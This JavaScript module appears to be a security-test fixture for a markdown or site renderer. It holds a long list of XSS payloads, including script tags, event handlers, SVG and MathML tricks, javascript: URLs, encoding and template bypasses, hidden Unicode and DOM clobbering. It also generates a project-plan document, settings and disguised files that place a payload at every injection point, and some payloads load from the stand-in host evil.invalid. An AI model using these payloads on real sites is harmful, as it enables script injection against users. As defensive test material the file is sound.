// What hostile authors write, and where: each text calls `canary(N)`, asks for `/~canary~N` or leads to another
// host, if anything of it is taken for more than words.

/** `§` becomes the payload's number. */
const TEXTS = [
  // Elements that run.
  `<script>canary(§)</script>`,
  `"><script>canary(§)</script>`,
  `'><script>canary(§)</script>`,
  `</title><script>canary(§)</script>`,
  `</textarea></select></style></noscript><script>canary(§)</script>`,
  `<script src=/~canary~§></script>`,
  `<script src="https://evil.invalid/~canary~§"></script>`,
  `<SCRIPT/x>canary(§)</SCRIPT >`,
  `<scr<script>ipt>canary(§)</scr</script>ipt>`,
  `<img src=x onerror=canary(§)>`,
  `<img src=/~canary~§>`,
  `<svg onload=canary(§)>`,
  `<svg/onload=canary(§)//`,
  `<svg><script>canary(§)</script></svg>`,
  `<svg><a xlink:href="javascript:canary(§)"><text y=9>x</text></a></svg>`,
  `<svg><animate onbegin=canary(§) attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=canary(§)>#x">`,
  `<math><mtext><table><mglyph><style><img src onerror=canary(§)>`,
  `<math href="javascript:canary(§)">m</math>`,
  `<style>@import "/~canary~§";*{background:url(/~canary~§)}</style>`,
  `<link rel=stylesheet href=/~canary~§>`,
  `<meta http-equiv=refresh content="0;url=/~canary~§">`,
  `<base href="https://evil.invalid/~canary~§/">`,
  `<iframe srcdoc="<script>parent.canary(§)</script>"></iframe>`,
  `<iframe src="javascript:parent.canary(§)"></iframe>`,
  `<iframe src=/~canary~§></iframe>`,
  `<object data="/~canary~§"></object><embed src="/~canary~§">`,
  `<object data="javascript:canary(§)"></object>`,
  `<template><script>canary(§)</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=canary(§)>">`,
  `<details open ontoggle=canary(§)><summary>s</summary></details>`,
  `<input autofocus onfocus=canary(§)>`,
  `<body onload=canary(§)>`,
  `<video src=x onerror=canary(§)><source onerror=canary(§)></video>`,
  `<marquee onstart=canary(§)>m</marquee>`,
  `<form action="javascript:canary(§)"><button formaction="javascript:canary(§)">b</button></form>`,
  `<a href="javascript:canary(§)" autofocus onfocus=canary(§)>a</a>`,
  `<isindex type=image src=1 onerror=canary(§)>`,
  `<!--><img src=x onerror=canary(§)>-->`,
  `<![CDATA[><img src=x onerror=canary(§)>]]>`,
  `<?xml-stylesheet href="javascript:canary(§)"?><img src=x onerror=canary(§)`,
  // Ways out of attributes, scripts and words.
  `" onmouseover="canary(§)" x="`,
  `' onfocus='canary(§)' autofocus='`,
  `x onerror=canary(§) `,
  `\` onerror=canary(§) \``,
  `"autofocus onfocus=canary(§) tabindex=1 id="`,
  `</script><script>canary(§)</script>`,
  `';canary(§);'`,
  `"-canary(§)-"`,
  `\\";canary(§)//`,
  `\u2028canary(§)\u2029//`,
  `\${canary(§)}`,
  `*/canary(§)/*`,
  `]]>"}]);canary(§);([{"`,
  // Twice unescaped, or by a template.
  `&lt;img src=x onerror=canary(§)&gt;`,
  `&amp;lt;script&amp;gt;canary(§)&amp;lt;/script&amp;gt;`,
  `&#60;script&#62;canary(§)&#60;/script&#62;`,
  `%3Cscript%3Ecanary(§)%3C/script%3E`,
  `{{ "<img src=x onerror=canary(§)>" | safe }}`,
  `{% raw %}<script>canary(§)</script>{% endraw %}`,
  `{{ 7 * 7 }}{# canary(§) #}<%= canary(§) %>`,
  // Addresses.
  `javascript:canary(§)`,
  `[j](javascript:canary(§)) [v](vbscript:canary(§)) [d](data:text/html,<script>canary(§)</script>)`,
  `[t](java&#9;script&colon;canary(§)) [c](&#1;javascript:canary(§)) [n](jav&NewLine;ascript:canary(§))`,
  `![i](javascript:canary(§)) ![s](data:image/svg+xml,<svg/onload=canary(§)>) ![e](https://evil.invalid/~canary~§.png)`,
  `[p](//evil.invalid/~canary~§) [b](\\\\evil.invalid\\~canary~§) <javascript:canary(§)>`,
  `[a](https://a.example/"onmouseover="canary(§) "b\\" onfocus=canary(§) c")`,
  // What the eye can't see.
  `invoice\u202Egpj.exe \u2066left\u2069 zero\u200Bwidth \u200Fmark\uFEFF <b onclick=canary(§)>`,
  // Names that hide what scripts look up.
  `__proto__ constructor location <form name=location><input name=attributes id=canary value=§></form>`,
  `<a id=document></a><img name=getElementById><form id=canary><output name=call>§</output></form>`,
];

export const PAYLOADS = TEXTS.map((text, n) => text.replaceAll("§", String(n)));

/** A plan with a text at every place that takes one; notes the name of each in `points`. */
export function hostilePlan(text, points = new Set()) {
  const line = text.replaceAll("\n", " ");
  const at = (point, change = (words) => words) => {
    points.add(point);
    return change(line);
  };
  const cell = (point) => at(point, (words) => words.replaceAll("|", "\\|"));
  const yaml = (point) => at(point, (words) => JSON.stringify(words).replaceAll("\u2028", "\\u2028").replaceAll("\u2029", "\\u2029"));
  const bare = (point) => at(point, (words) => words.replaceAll(/[[\]()<>\s]/g, "_"));
  return `---
title: ${yaml("front matter: title")}
flag: ${yaml("front matter: a value of its own")}
tags: [${yaml("front matter: tag")}, other]
aliases: [${yaml("front matter: alias")}]
${yaml("front matter: key")}: ${yaml("front matter: value of an unknown key")}
---
# ${at("heading: title")}

**Status:** In Progress
**Current phase:** Phase 1
**Author:** ${at("header: author")}
**Owner:** ${at("header: owner")}
**Last updated:** ${at("header: date")}
**Ticket:** ${at("header: a line of its own")}
**${at("header: key")}:** value

${at("paragraph")}

${line.startsWith("<") ? at("raw HTML: block") : at("paragraph: second")}

**${at("strong")}** *${at("emphasis")}* ~~${at("deleted")}~~ \`${at("code span")}\`
[${at("link: text")}](https://a.example/ '${at("link: title", (w) => w.replaceAll("'", "\\'"))}')
[x](<${at("link: address", (w) => w.replaceAll(/[<>]/g, "\\$&"))}>) [y](${bare("link: bare address")}) <${bare("autolink")}>
![${at("image: description")}](p.png "${at("image: title", (w) => w.replaceAll('"', '\\"'))}")
![z](<${at("image: address", (w) => w.replaceAll(/[<>]/g, "\\$&"))}>) [[${at("wikilink: target")}|${at("wikilink: words")}]]
A note[^1] and [a reference][ref].

[^1]: ${at("footnote: text")}
[^${bare("footnote: name")}]: Unused.
[ref]: <${at("reference: address", (w) => w.replaceAll(/[<>]/g, "\\$&"))}> "t"

\`\`\`${bare("code block: info")}
${at("code block")}
\`\`\`

> [!NOTE] ${at("callout: title")}
> ${at("callout: text")}

<details><summary>${at("details: summary")}</summary>

${at("details: text")}

</details>

- ${at("list: item")}
  1. ${at("list: nested item")}

| ${cell("table: head")} | B |
|---|---|
| ${cell("table: cell")} | ${cell("table: second cell")} |

## Rollout Phases

| Phase | Scope | Users | Duration | Start | Success Criteria | Go / No-Go | ${cell("phases: a column of its own")} |
|---|---|---|---|---|---|---|---|
| Phase 0 — ${cell("phases: name")} | ${cell("phases: scope")} | ${cell("phases: users")} | ${cell("phases: duration")} | ${cell("phases: date")} | ${cell("phases: criterion")} | ${cell("phases: approver")} | ${cell("phases: own cell")} |
| Phase 1 — Next | all | 5 | 1 week | 2026-11-02 | errors < 1% ${cell("phases: measurable criterion")} | Ada, ${cell("phases: second approver")} | |

### Phase Transition Criteria

- [ ] ${at("criteria: item")}
- [x] Phase 0: ${at("criteria: ticked item")}

## Go / No-Go Log

| Phase | Decision | By | Date | Notes |
|---|---|---|---|---|
| Phase 0 | Go | ${cell("log: by")} | 2026-11-01 | ${cell("log: notes")} |
| Phase 1 | ${cell("log: decision")} | Ada | ${cell("log: date")} | |

## Risk Register

| ID | Risk | Category | Likelihood | Impact | Mitigation | Contingency | Owner | Status | Due |
|---|---|---|---|---|---|---|---|---|---|
| R1 | ${cell("risks: risk")} | ${cell("risks: category")} | High | High | ${cell("risks: mitigation")} | ${cell("risks: contingency")} | ${cell("risks: owner")} | Open | Phase 1 |
| ${cell("risks: id")} | named | Technical | ${cell("risks: likelihood")} | ${cell("risks: impact")} | none | none | Ada | ${cell("risks: status")} | ${cell("risks: due")} |

## Rollback Plan

### Rollback Triggers

- errors > 5% ${at("rollback: trigger")}

### Rollback Steps

1. ${at("rollback: step")}

   \`\`\`sh
   ${at("rollback: command")}
   \`\`\`

### Verification

- ${at("rollback: verification")}

### Rollback Owners

| Phase | Primary Owner | Backup Owner |
|---|---|---|
| All | ${cell("rollback: owner")} | ${cell("rollback: backup")} |

## Launch Checklist

### ${at("checklist: group")}

- [ ] ${at("checklist: item")}
- [x] ${at("checklist: done item")}

## ${at("heading: section")} {#x onclick=canary()}

${at("section: text")}
`;
}

/** A name that a file or folder may have, with a text in it. */
export const fileName = (text) => Array.from(text.replaceAll(/[/\0\n]/g, " ").trim()).slice(0, 60).join("").replace(/^[._]/, "x$&");

/** Settings of a trusted user who copies a text without a look. */
export const hostileSettings = (text) => {
  const value = JSON.stringify(text).replaceAll("\u2028", "\\u2028").replaceAll("\u2029", "\\u2029");
  return `[site]\ntitle = ${value}\nauthor = ${value}\n[people]\n${value} = ${value}\n[theme]\nfooter_links = [{ text = ${value}, url = "about.html" }]\n`;
};

const SVG = "http://www.w3.org/2000/svg";
const page = (n) => `<!DOCTYPE html><title>t</title><script>canary(${n})</script><img src=x onerror=canary(${n})>`;
const drawing = (inside, of = "") => `<svg xmlns="${SVG}" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"${of}>${inside}</svg>`;

/** Files of every kind, hostile each, by name. */
export const FILES = {
  ...Object.fromEntries(["html", "htm", "HTML", "xhtml", "xht", "shtml", "xml", "xsl", "xslt", "mht", "mhtml", "hta", "htc", "svgz", "jsp", "php",
    "unknown", "rdf", "rss", "atom", "vml", "webmanifest", "appcache", "eml", "epub"].map((ending, n) => [`page.${ending}`, page(500 + n)])),
  ...Object.fromEntries(["txt", "csv", "tsv", "json", "log", "png", "jpg", "gif", "webp", "avif", "ico", "bmp", "pdf", "doc", "docx", "xlsx", "zip",
    "gz", "tar", "mp3", "mp4", "webm", "ogg", "yaml", "toml", "sql", "vtt", "ics", "rst", "patch"].map((ending, n) => [`disguised.${ending}`, page(600 + n)])),
  "extensionless": page(700),
  "page.html.": page(701),
  "page.html.en": page(702),
  "page.html.gz": page(703),
  "page.php.txt": page(704),
  "xhtml.svg.png": page(705),
  "e.js": "canary(710)",
  "e.mjs": "canary(711)",
  "e.css": "@import '/~canary~712'",
  "e.wasm": "\0asm",
  "sw.js": "self.addEventListener('fetch', () => {}); canary(713)",
  "script.svg": drawing("<script>canary(720)</script>"),
  "load.svg": drawing("", ' onload="canary(721)"'),
  "foreign.svg": drawing(`<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><script>canary(722)</script></body></foreignObject>`),
  "namespaced.svg": drawing(`<h:script xmlns:h="http://www.w3.org/1999/xhtml">canary(723)</h:script>`),
  "link.svg": drawing(`<a xlink:href="javascript:canary(724)"><rect width="9" height="9"/></a>`),
  "set.svg": drawing(`<a><set attributeName="xlink:href" to="javascript:canary(725)"/><rect width="9" height="9"/></a>`),
  "animate.svg": drawing(`<animate onbegin="canary(726)" attributeName="x" dur="1s"/>`),
  "image.svg": drawing(`<image href="/~canary~727" width="9" height="9"/>`),
  "style.svg": drawing(`<style>@import "/~canary~728";</style><rect fill="url(/~canary~728#a)" width="9" height="9"/>`),
  "escaped.svg": drawing(`<style>rect{fill:u\\72l(/~canary~729#a)}</style><rect width="9" height="9"/>`),
  "entity.svg": `<!DOCTYPE svg [<!ENTITY e "&#60;script xmlns='${SVG}'>canary(730)&#60;/script>">]>${drawing("&e;")}`,
  "sheet.svg": `<?xml-stylesheet type="text/xsl" href="page.xsl"?>${drawing("")}`,
  "encoded.svg": `<?xml version="1.0" encoding="UTF-7"?>${drawing("+ADw-script+AD4-canary(731)+ADw-/script+AD4-")}`,
  "html.svg": page(732),
  "broken.svg": `<svg xmlns="${SVG}"><script>canary(733)</script>`,
  "plain.svg": drawing(`<title>t</title><path d="M0 0L9 9"/>`),
};
